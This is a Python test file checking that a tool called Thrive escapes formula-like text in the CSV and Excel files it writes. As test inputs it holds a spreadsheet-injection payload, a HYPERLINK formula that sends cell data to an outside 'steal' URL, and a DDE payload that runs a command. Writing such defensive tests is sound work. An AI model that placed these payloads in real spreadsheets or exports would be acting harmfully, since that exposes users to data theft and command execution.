"""Formula-looking text is escaped in every file Thrive writes, and read back as it was."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from thrive.commands.measure_tables import to_csv
from thrive.ingest.outcome import write_problems_csv
from thrive.ingest.templates import write_template
from thrive.metrics.results import Result
from thrive.problems import Problem
from thrive.safe_cells import FORMULA_STARTS, escape, sheet_name, unescape

HOSTILE = '=HYPERLINK("http://example.org/steal?x="&A1,"click")'
text = st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "1", ".", "e", "a"]))


def _runs_in_a_spreadsheet(cell: str) -> bool:
    return cell[:1] in FORMULA_STARTS


@given(st.one_of(text, st.text()))
def test_unescape_gives_back_what_was_escaped(value: str) -> None:
    assert unescape(escape(value)) == value


@given(st.one_of(text, st.text()))
def test_an_escaped_cell_never_starts_a_formula_unless_it_is_a_plain_number(value: str) -> None:
    cell = escape(value)
    if _runs_in_a_spreadsheet(cell):
        assert cell == value and float(cell) == float(value)  # -0.5, +3, -1e3: numbers


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_numbers_and_nothing_are_left_as_they_are(value: object) -> None:
    assert escape(value) is value


def test_negative_numbers_written_as_text_stay_numbers() -> None:
    assert [escape(v) for v in ("-0.5", "-3", "+2.5", "-1e3")] == ["-0.5", "-3", "+2.5", "-1e3"]
    assert [escape(v) for v in ("-1+1", "@SUM(A1)", "\t=1", "-")] == [
        "'-1+1",
        "'@SUM(A1)",
        "'\t=1",
        "'-",
    ]


def test_the_problem_report_escapes_what_the_file_said(tmp_path: Path) -> None:
    out = tmp_path / "problems.csv"
    write_problems_csv([Problem("absence.csv", "row 2", "reason", HOSTILE, "a reason code")], out)
    with out.open(encoding="utf-8", newline="") as stream:
        row = next(csv.DictReader(stream))
    assert row["value"] == "'" + HOSTILE
    assert not any(_runs_in_a_spreadsheet(cell) for cell in row.values())


def test_the_metrics_csv_escapes_text_and_keeps_numbers() -> None:
    result = Result(
        name="turnover_rate",
        label="=cmd|' /C calc'!A0",
        value=-0.5,
        slice=None,
        unit="%",
        target=None,
        status=None,
        numerator=None,
        denominator=None,
        as_at=date(2025, 3, 31),
        period=None,
        detail={"change": -2.0},
    )
    row = next(csv.DictReader(to_csv([result]).splitlines()))
    assert row["label"] == "'=cmd|' /C calc'!A0"
    assert row["value"] == "-0.5" and row["detail"] == "change: -2.0"


def test_an_xlsx_template_holds_no_formula(tmp_path: Path) -> None:
    out = tmp_path / "absence.xlsx"
    write_template("absence", out)
    book = load_workbook(out)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


@given(st.lists(st.text(max_size=40), max_size=12))
def test_sheet_names_are_ones_excel_accepts_and_never_repeat(names: list[str]) -> None:
    used: set[str] = set()
    chosen = [sheet_name(name, used) for name in names]
    assert len({c.lower() for c in chosen}) == len(chosen)
    for name in chosen:
        assert 1 <= len(name) <= 31
        assert not set(name) & set("[]:*?/\\'")


def test_a_sheet_name_keeps_its_words_and_numbers_a_repeat() -> None:
    used: set[str] = set()
    assert sheet_name("Caseloads: by team", used) == "Caseloads  by team"
    assert sheet_name("caseloads  by team", used) == "caseloads  by team (2)"
    assert sheet_name("", used) == "Table"
    assert len(sheet_name("A" * 40, used)) == 31
